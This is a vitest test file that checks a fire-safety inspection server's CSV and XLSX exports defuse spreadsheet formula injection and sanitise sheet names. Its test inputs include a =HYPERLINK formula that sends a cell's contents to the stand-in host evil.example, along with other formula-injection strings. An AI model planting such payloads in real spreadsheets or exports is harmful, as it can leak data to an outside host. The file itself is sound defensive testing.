// Every text cell of an export, header and data, CSV and XLSX: text a spreadsheet would run as
// a formula leaves defused; the sheet name is one Excel opens without repairing the file.
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { fireSafety, type FormTemplate } from '../../src/core/forms/index.js'
import type { SubmitResult } from '../../src/core/protocol.js'
import { fireSafetyEnvelope, passingAnswers } from './envelopes.js'
import { bearer, dialects, startServer, type TestServer } from './harness.js'

// No commas: the CSV check splits lines on them.
const hostile = ['=HYPERLINK("http://evil.example/?x="&A2;"点我")', '＝1+1', '@SUM(A1)', '+cmd', '－2+3', '\t=1']

/** fire-safety v2 whose labels, options and title are a formula-writing bureau's. */
function hostileTemplate(): FormTemplate {
  const [first, ...rest] = fireSafety.sections
  if (!first) throw new Error('fire-safety has no sections')
  const fields = first.fields.map((field, index) => (index < 3 ? { ...field, label: { zh: hostile[index] ?? '', en: 'x' } } : field))
  return { ...fireSafety, version: 2, title: { zh: "'消防[安全]:自查*?/\\ 2026 年第一学期全校范围消防检查（复查）", en: 'x' }, sections: [{ ...first, fields }, ...rest] }
}

/** Cells as text, and the formulas ExcelJS finds (none expected). */
async function workbook(body: Buffer): Promise<{ name: string; rows: string[][]; formulas: string[] }> {
  const book = new ExcelJS.Workbook()
  await book.xlsx.load(body as unknown as ArrayBuffer)
  const sheet = book.worksheets[0]
  if (!sheet) throw new Error('no worksheet')
  const rows: string[][] = []
  const formulas: string[] = []
  sheet.eachRow((row) => {
    const cells: string[] = []
    row.eachCell({ includeEmpty: true }, (cell) => {
      if (cell.type === ExcelJS.ValueType.Formula) formulas.push(cell.address)
      cells.push(cell.text)
    })
    rows.push(cells)
  })
  return { name: sheet.name, rows, formulas }
}

function csvCells(body: Buffer): string[] {
  // No cell here holds a comma, quote or line break: a split is enough to see each cell's start.
  return body.subarray(3).toString('utf8').split('\r\n').flatMap((line) => line.split(','))
}

describe.each(dialects)('export defusing (%s)', (dialect) => {
  let server: TestServer
  let bureau: string

  beforeAll(async () => {
    server = await startServer(dialect)
    const admin = await server.login('admin', 'admin123')
    bureau = await server.login('bureau', 'bureau123')
    const school1 = await server.login('school1', 'school123')
    const published = await server.app.inject({ method: 'POST', url: '/api/v1/admin/forms', headers: bearer(admin), payload: { template: hostileTemplate() } })
    expect(published.statusCode, published.body).toBe(201)
    for (const remarks of hostile) {
      const envelope = fireSafetyEnvelope({ formVersion: 2, answers: { ...passingAnswers(), remarks, inspector: '＝王老师' } })
      const response = await server.app.inject({ method: 'POST', url: '/api/v1/submissions', headers: bearer(school1), payload: { submissions: [envelope] } })
      expect((response.json().results as SubmitResult[])[0]?.status, response.body).toBe('accepted')
    }
  }, 60_000)
  afterAll(() => server.close())

  it('a CSV export defuses formulas in its header row and in its data, full-width ＝ ＋ － ＠ included', async () => {
    const response = await server.app.inject({ url: '/api/v1/exports/fire-safety.csv', headers: bearer(bureau) })
    expect(response.statusCode).toBe(200)
    const cells = csvCells(response.rawPayload)
    const live = cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/u.test(cell.replace(/^"/, '')))
    expect(live).toEqual([])
    const header = cells.slice(0, 40)
    expect(header).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A2;""点我"")"`)
    expect(header).toContain("'＝1+1")
    expect(header).toContain("'@SUM(A1)")
    expect(cells).toContain("'－2+3")
    expect(cells).toContain("'＝王老师")
  })

  it('an XLSX export holds no formula and shows every formula-like text, header and data, defused', async () => {
    const response = await server.app.inject({ url: '/api/v1/exports/fire-safety.xlsx', headers: bearer(bureau) })
    expect(response.statusCode).toBe(200)
    const { rows, formulas } = await workbook(response.rawPayload)
    expect(formulas).toEqual([])
    const texts = rows.flat()
    expect(texts.filter((text) => /^[=+\-@\t\r＝＋－＠]/u.test(text))).toEqual([])
    expect(rows[0]).toEqual(expect.arrayContaining(["'=HYPERLINK(\"http://evil.example/?x=\"&A2;\"点我\")", "'＝1+1", "'@SUM(A1)"]))
    expect(texts).toEqual(expect.arrayContaining(["'+cmd", "'\t=1", "'＝王老师"]))
  })

  it('an XLSX sheet named after a title with [ ] : * ? / \\, a leading apostrophe and over 31 characters is one Excel accepts', async () => {
    const response = await server.app.inject({ url: '/api/v1/exports/fire-safety.xlsx', headers: bearer(bureau) })
    const { name } = await workbook(response.rawPayload)
    expect(name).toBe('消防_安全__自查____ 2026 年第一学期全校范围消防检')
    expect(name.length).toBeLessThanOrEqual(31)
    expect(name).not.toMatch(/[[\]:*?/\\]|^'|'$/)
  })
})
